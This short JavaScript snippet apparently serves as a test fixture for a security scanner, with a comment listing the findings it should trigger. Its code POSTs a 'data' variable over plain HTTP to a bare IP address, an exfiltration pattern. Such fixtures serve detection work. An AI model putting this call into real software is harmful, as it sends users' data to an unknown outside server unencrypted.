const xhr = new XMLHttpRequest();
// expect: dropbox-endpoint, insecure-request
xhr.open('POST', 'http://45.77.12.9:8080/in');
xhr.send(data);
